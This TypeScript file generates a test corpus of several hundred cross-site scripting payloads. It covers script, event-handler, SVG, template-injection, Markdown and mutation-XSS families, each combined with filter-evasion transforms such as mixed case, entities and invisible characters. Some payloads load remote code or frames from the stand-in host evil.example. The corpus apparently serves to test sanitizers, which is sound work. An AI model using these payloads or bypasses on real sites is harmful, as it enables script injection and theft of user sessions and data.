/*
 * Texts that become code where a page makes HTML, an address or a style of what people write. The families are those of
 * OWASP's and PortSwigger's cheat sheets; each is made several times, the ways filters have been got round.
 * Whatever of it runs calls `window.__xss(n)` or opens a dialog; whatever of it loads asks evil.example.
 */

const EVIL = 'evil.example'

/** `run` is a script that tells on itself. None is longer than a name may be after its family's own words. */
const families: Record<string, (run: string) => string> = {
  'script': run => `<script>${run}</script>`,
  'script, closing the one before': run => `</script><script>${run}</script>`,
  'script from outside': () => `<script src=//${EVIL}/x.js></script>`,
  'script in a comment': run => `--><script>${run}</script><!--`,
  'script in CDATA': run => `]]><script>${run}</script>`,
  'script as module': run => `<script type=module>${run}</script>`,
  'image that fails': run => `<img src=x onerror=${run}>`,
  'image from outside': () => `<img src=//${EVIL}/x.png>`,
  'picture set from outside': () => `<img srcset="//${EVIL}/x.png 1x">`,
  'image out of an attribute': run => `"><img src=x onerror=${run}>`,
  'image out of a single-quoted attribute': run => `'><img src=x onerror=${run}>`,
  'image out of a title': run => `</title><img src=x onerror=${run}>`,
  'image out of a text area': run => `</textarea><img src=x onerror=${run}>`,
  'image out of a style': run => `</style><img src=x onerror=${run}>`,
  'svg': run => `<svg onload=${run}>`,
  'svg with a script': run => `<svg><script>${run}</script></svg>`,
  'svg that animates': run => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  'svg that sets a link': run => `<svg><a><set attributeName=href to=javascript:${run} /><text y=9>go</text></a></svg>`,
  'svg use from outside': () => `<svg><use href=//${EVIL}/x.svg#a /></svg>`,
  'math': run => `<math><mi xlink:href=javascript:${run}>go</mi></math>`,
  'body': run => `<body onload=${run}>`,
  'details': run => `<details open ontoggle=${run}>`,
  'video': run => `<video><source onerror=${run}></video>`,
  'audio': run => `<audio src=x onerror=${run}>`,
  'input with the focus': run => `<input autofocus onfocus=${run}>`,
  'style that moves': run => `<style>@keyframes a{}</style><p style=animation-name:a onanimationstart=${run}>`,
  'style from outside': () => `<style>@import'//${EVIL}/x.css'</style>`,
  'style sheet': () => `<link rel=stylesheet href=//${EVIL}/x.css>`,
  'background': () => `<p style="background:url(//${EVIL}/x.png)">`,
  'iframe': run => `<iframe src=javascript:${run}></iframe>`,
  'iframe with a document': run => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'iframe from outside': () => `<iframe src=//${EVIL}/></iframe>`,
  'object': run => `<object data=javascript:${run}></object>`,
  'embed': () => `<embed src=//${EVIL}/x.swf>`,
  'base': () => `<base href=//${EVIL}/>`,
  'meta refresh': () => `<meta http-equiv=refresh content="0;url=//${EVIL}/">`,
  'form': run => `<form action=javascript:${run}><button autofocus>go</button></form>`,
  'form button': run => `<button form=x formaction=javascript:${run}>go</button>`,
  'link': run => `<a href=javascript:${run}>go</a>`,
  'attribute': run => `" autofocus onfocus=${run} x="`,
  'single-quoted attribute': run => `' autofocus onfocus=${run} x='`,
  'template of Vue': run => `{{constructor.constructor('${run}')()}}`,
  'template of Angular': run => `{{$on.constructor('${run}')()}}`,
  'template of a server': run => `<%= ${run} %>\${${run}}#{${run}}`,
  'string of a script': run => `';${run};//`,
  'string of a script, escaped': run => `\\';${run};//`,
  'Markdown link': run => `[go](javascript:${run})`,
  'Markdown link with a line end': run => `[go](java&#10;script:${run})`,
  'Markdown link with entities': run => `[go](&#106;avascript:${run})`,
  'Markdown link of data': run => `[go](data:text/html,<script>${run}</script>)`,
  'Markdown link of vbscript': run => `[go](vbscript:${run})`,
  'Markdown link in angles': run => `[go](<javascript:${run}>)`,
  'Markdown link with a title': run => `[go](/ok "onmouseover=${run} x=")`,
  'Markdown image': run => `![x](javascript:${run})`,
  'Markdown image from outside': () => `![x](//${EVIL}/x.png)`,
  'Markdown autolink': run => `<javascript:${run}>`,
  'Markdown with HTML in it': run => `**<img src=x onerror=${run}>**`,
  'Markdown code with HTML in it': run => `\`</code><img src=x onerror=${run}>\``,
  'Markdown address with a quote': run => `https://ok.example/"onmouseover="${run}`,
  'Markdown address with a user': run => `[go](https://${EVIL}:${run}@ok.example/)`,
  'noscript': run => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'mutation of namespaces': run => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'id that shadows': run => `<a id=__NUXT__ href=${run}></a><form name=getElementById>`,
}

/** Ways round a filter; `null` where a way changes nothing. */
const ways: Record<string, (text: string) => string> = {
  'as it is': text => text,
  'in mixed case': text => text.replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${[...name].map((letter, n) => (n % 2 ? letter : letter.toUpperCase())).join('')}`).replace('javascript:', 'JaVaScRiPt:').replace(/on(error|load|focus|toggle|begin)=/g, (_, name: string) => `oN${name.toUpperCase()}=`),
  'with other spaces': text => text.replace(/<([a-z]+) /g, '<$1/').replace('javascript:', 'java\tscript:'),
  'tags in tags': text => text.replace(/<(script|img|svg|iframe)/g, '<<$1').replace('javascript:', 'javajavascript:script:'),
  'as entities': text => text.replace(/</g, '&lt;').replace(/>/g, '&gt;').replace('javascript:', 'javascript&colon;'),
  'in full-width signs': text => text.replace(/</g, '\uFF1C').replace(/>/g, '\uFF1E').replace('javascript:', 'javascript\uFF1A'),
  'with an invisible character': text => text.replace(/<([a-z])/g, '<\u200B$1').replace('javascript:', '\u200Bjavascript:'),
}

export interface XssPayload { n: number, family: string, way: string, text: string }

/** Every family in every way that makes a difference; 300 and more. Each once. */
export const xssCorpus: readonly XssPayload[] = makeCorpus()

function makeCorpus(): XssPayload[] {
  const made = new Map<string, XssPayload>()
  for (const [family, write] of Object.entries(families)) {
    for (const [way, change] of Object.entries(ways)) {
      const n = made.size + 1
      const text = change(write(`__xss(${n})`))
      // The numbers differ, so a way that changes nothing has to be looked for without them.
      if (way === 'as it is' || text !== write(`__xss(${n})`)) made.set(text, { n, family, way, text })
    }
  }
  return [...made.values()]
}

/** The payloads in as few texts as fit, one payload a line, none longer than `max` code points. */
export function packed(max: number, payloads = xssCorpus): string[] {
  const texts: string[] = []
  for (const { text } of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && [...last].length + [...text].length + 2 <= max) texts[texts.length - 1] = `${last}\n\n${text}`
    else texts.push(text)
  }
  return texts
}
